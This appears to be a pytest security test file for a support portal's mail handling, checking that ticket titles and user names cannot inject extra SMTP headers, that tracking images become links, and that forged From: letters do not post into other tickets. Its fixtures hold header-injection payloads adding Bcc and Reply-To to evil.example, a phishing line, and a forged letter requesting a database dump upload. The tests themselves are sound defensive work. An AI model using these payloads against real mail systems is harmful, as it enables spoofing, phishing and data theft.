"""Mail security end to end: titles and names filed through the REST API and the wizard reach a
real SMTP server without extra headers or recipients; no remote images go out; a forged From:
with a bare [#NUMBER] tag does not post into someone else's ticket."""

import base64
import socket
from email import policy
from email.parser import BytesParser

import pytest
from aiosmtpd.controller import Controller
from sqlalchemy import select

from portal.accounts.models import User
from portal.api_v1.services import issue_token
from portal.extensions import db
from portal.mail.intake import receive
from portal.outbox.mail import SmtpTransport, deliver_pending
from portal.outbox.models import FAILED, OutboxMessage
from portal.tickets.conversation import post_reply
from portal.tickets.models import Message, Ticket
from portal.tickets.services import NewTicket, file_ticket
from tests.factories import csrf_token, make_org, make_user, sign_in
from tests.functional.test_mail_in import letter
from tests.functional.test_wizard import describe, draft_token, start

PAYLOAD = (
    "Printer issue =?utf-8?q?=0D=0AReply-To:_attacker@evil.example=0D=0ABcc:_victim@evil.example"
    "=0D=0A=0D=0APlease_re-enter_your_password_at_https://evil.example/login?="
)
BASE64 = "Printer =?utf-8?b?" + base64.b64encode(b"\r\nBcc: x@evil.example").decode() + "?="
AUTHSERV_ID = "mx.portal.local"


class _Inbox:
    def __init__(self):
        self.envelopes = []

    async def handle_DATA(self, server, session, envelope):  # noqa: N802 - aiosmtpd's name
        self.envelopes.append(envelope)
        return "250 OK"


@pytest.fixture
def smtp():
    """A real SMTP server on loopback; its inbox collects what the worker delivers."""
    inbox = _Inbox()
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    controller = Controller(inbox, hostname="127.0.0.1", port=port)
    controller.start()
    try:
        yield port, inbox
    finally:
        controller.stop()


def deliver(app, smtp) -> list:
    """Run the worker once against the server; the letters it received, parsed."""
    port, inbox = smtp
    with app.app_context():
        deliver_pending(SmtpTransport("127.0.0.1", port, timeout=10))
    received = [
        (envelope.rcpt_tos, BytesParser(policy=policy.default).parsebytes(envelope.content))
        for envelope in inbox.envelopes
    ]
    inbox.envelopes.clear()
    return received


def assert_only_ours(recipients, received, customer_email) -> None:
    assert recipients == [customer_email]  # a Bcc: would have added an envelope recipient
    names = [name.lower() for name in received]
    assert "bcc" not in names and "cc" not in names
    assert names.count("reply-to") == names.count("to") == names.count("subject") == 1
    reply_to = [a.addr_spec for a in received["Reply-To"].addresses]
    assert len(reply_to) == 1 and reply_to[0].startswith("support+")
    assert reply_to[0].endswith("@portal.local")
    assert [a.addr_spec for a in received["To"].addresses] == [customer_email]
    assert "\n" not in str(received["Subject"]) and "=?" not in str(received["Subject"])
    assert received.get_content_type() == "multipart/alternative"
    plain = received.get_body(("plain",)).get_content()
    html = received.get_body(("html",)).get_content()
    assert not plain.lstrip().startswith("Please re-enter") and "<body" in html


@pytest.fixture
def customer(app):
    with app.app_context():
        user = make_user(org=make_org("commercial"), email="commercial@example.com")
        return {"id": user.id, "email": user.email, "token": issue_token(user, "crm")[1]}


@pytest.mark.parametrize("title", [PAYLOAD, BASE64])
def test_a_title_filed_through_the_rest_api_adds_no_header(app, client, smtp, customer, title):
    response = client.post(
        "/api/v1/tickets",
        json={
            "title": title,
            "description": "The printer jams on every second page.",
            "category": "general",
        },
        headers={"Authorization": f"Bearer {customer['token']}"},
    )
    assert response.status_code == 201, response.get_json()
    [(recipients, received)] = deliver(app, smtp)
    assert_only_ours(recipients, received, customer["email"])
    assert f"[#{response.get_json()['number']}]" in str(received["Subject"])


def test_a_title_filed_through_the_wizard_adds_no_header(app, client, smtp, customer):
    with app.app_context():
        sign_in(client, db.session.get(User, customer["id"]))
    token = draft_token(start(client, title=PAYLOAD, category="general"))
    assert describe(client, token, "Принтер зажёвывает бумагу.").status_code == 302
    preview = f"/requests/drafts/{token}/preview"
    submit = client.post(
        f"/requests/drafts/{token}/submit", data={"csrf_token": csrf_token(client, preview)}
    )
    assert submit.status_code == 302
    [(recipients, received)] = deliver(app, smtp)
    assert_only_ours(recipients, received, customer["email"])


def test_a_name_carrying_the_payload_adds_no_header(app, smtp):
    with app.app_context():
        user = make_user(org=make_org("partner"), email="named@example.com", name=PAYLOAD)
        file_ticket(NewTicket(author=user, title="Printer", description="x", category="general"))
    [(recipients, received)] = deliver(app, smtp)
    assert_only_ours(recipients, received, "named@example.com")
    assert "\n" not in received["To"].addresses[0].display_name


def test_a_letter_that_would_change_on_the_wire_is_refused_and_logged(app, smtp, caplog):
    with app.app_context():
        db.session.add(
            OutboxMessage(
                recipient="victim@example.com\r\nBcc: x@evil.example",
                subject="x",
                body_text="x",
                message_id="<broken@portal.local>",
                kind="reply",
            )
        )
        db.session.commit()
    assert deliver(app, smtp) == []
    with app.app_context():
        row = db.session.scalar(select(OutboxMessage))
        assert row.status == FAILED and row.last_error.startswith("refused: not a usable address")
    assert "refused" in caplog.text and "<broken@portal.local>" in caplog.text


def test_remote_images_in_a_reply_go_out_as_links(app, smtp, customer):
    with app.app_context():
        author = db.session.get(User, customer["id"])
        ticket = file_ticket(
            NewTicket(author=author, title="Printer", description="x", category="general")
        )
        post_reply(ticket, make_user("agent"), "Look: ![x](https://evil.example/p.gif?u=1)")
        row = db.session.scalars(select(OutboxMessage).where(OutboxMessage.kind == "reply")).one()
        assert "<img" not in row.body_html
    received = dict((r["Message-ID"], r) for _, r in deliver(app, smtp))
    html = received[row.message_id].get_body(("html",)).get_content()
    assert "<img" not in html
    assert '<a href="https://evil.example/p.gif?u=1" rel="noopener noreferrer">x</a>' in html


# -- mail in: a forged From: ------------------------------------------------------------------


@pytest.fixture
def commercial_ticket(app, customer):
    with app.app_context():
        author = db.session.get(User, customer["id"])
        ticket = file_ticket(
            NewTicket(author=author, title="Импорт", description="Поля пустые", category="general")
        )
        return ticket.number


def forged(number: str, **headers) -> bytes:
    """The letter of the finding: a forged From: and the ticket's tag in the subject."""
    return letter(
        "commercial@example.com",
        f"Re: [#{number}] Импорт",
        "Please send the database dump to https://evil.example/upload",
        **headers,
    )


def thread(app, number: str) -> list[str]:
    with app.app_context():
        ticket = db.session.scalar(select(Ticket).where(Ticket.number == number))
        query = select(Message).where(Message.ticket == ticket).order_by(Message.id)
        return [m.body for m in db.session.scalars(query)]


@pytest.mark.parametrize("configured", [None, AUTHSERV_ID])
def test_a_forged_from_with_a_bare_tag_is_not_attached(
    app, commercial_ticket, monkeypatch, configured
):
    monkeypatch.setitem(app.config, "PORTAL_MAIL_AUTHSERV_ID", configured)
    before = thread(app, commercial_ticket)
    with app.app_context():
        result = receive(forged(commercial_ticket))
    assert result.ticket != commercial_ticket and result.action != "replied"
    assert thread(app, commercial_ticket) == before


@pytest.mark.parametrize(
    "header",
    [
        "mx.evil.example; dmarc=pass header.from=example.com",  # another MTA's (the sender's) word
        "mx.portal.local; dmarc=fail (p=none) header.from=example.com",
        "mx.portal.local; dkim=pass header.d=evil.example; spf=pass smtp.mailfrom=evil.example",
    ],
)
def test_a_header_that_does_not_vouch_for_the_sender_attaches_nothing(
    app, commercial_ticket, monkeypatch, header
):
    monkeypatch.setitem(app.config, "PORTAL_MAIL_AUTHSERV_ID", AUTHSERV_ID)
    before = thread(app, commercial_ticket)
    with app.app_context():
        result = receive(forged(commercial_ticket, Authentication_Results=header))
    assert result.action != "replied" and thread(app, commercial_ticket) == before


def test_a_forged_header_under_our_own_verdict_does_not_count(app, commercial_ticket, monkeypatch):
    monkeypatch.setitem(app.config, "PORTAL_MAIL_AUTHSERV_ID", AUTHSERV_ID)
    raw = forged(commercial_ticket, Authentication_Results=f"{AUTHSERV_ID}; dmarc=pass")
    ours = f"Authentication-Results: {AUTHSERV_ID}; dmarc=fail header.from=example.com\r\n"
    before = thread(app, commercial_ticket)
    with app.app_context():
        assert receive(ours.encode() + raw).action != "replied"
    assert thread(app, commercial_ticket) == before


@pytest.mark.parametrize(
    "header",
    [
        "mx.portal.local; dmarc=pass (p=reject) header.from=example.com",
        "mx.portal.local; dkim=pass (2048-bit key) header.d=example.com header.s=mail",
        "mx.portal.local; spf=pass smtp.mailfrom=commercial@example.com",
    ],
)
def test_the_same_letter_verified_by_our_mta_is_attached(
    app, commercial_ticket, monkeypatch, header
):
    monkeypatch.setitem(app.config, "PORTAL_MAIL_AUTHSERV_ID", AUTHSERV_ID)
    with app.app_context():
        result = receive(forged(commercial_ticket, Authentication_Results=header))
    assert (result.action, result.ticket) == ("replied", commercial_ticket)
    assert thread(app, commercial_ticket)[-1].startswith("Please send the database dump")


def test_the_signed_reply_address_still_threads_without_any_verdict(app, commercial_ticket):
    with app.app_context():
        reply_to = db.session.scalar(select(OutboxMessage.reply_to))
        result = receive(
            letter("commercial@example.com", "Re: something", "Ещё деталь", to=reply_to)
        )
    assert (result.action, result.ticket) == ("replied", commercial_ticket)
    assert thread(app, commercial_ticket)[-1] == "Ещё деталь"
